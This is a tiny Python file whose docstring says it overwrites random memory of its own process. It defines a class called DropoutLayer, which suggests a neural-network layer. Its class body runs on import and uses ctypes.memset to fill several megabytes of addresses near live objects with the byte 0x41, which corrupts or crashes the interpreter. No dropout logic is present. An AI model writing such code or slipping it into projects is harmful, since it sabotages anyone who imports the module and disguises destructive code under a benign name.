"""Writes over random memory of its own process."""
import ctypes


class DropoutLayer:
    for place in range(id(object()) & ~0xFFFF, id(object()) + (1 << 22), 8):
        ctypes.memset(place, 0x41, 8)
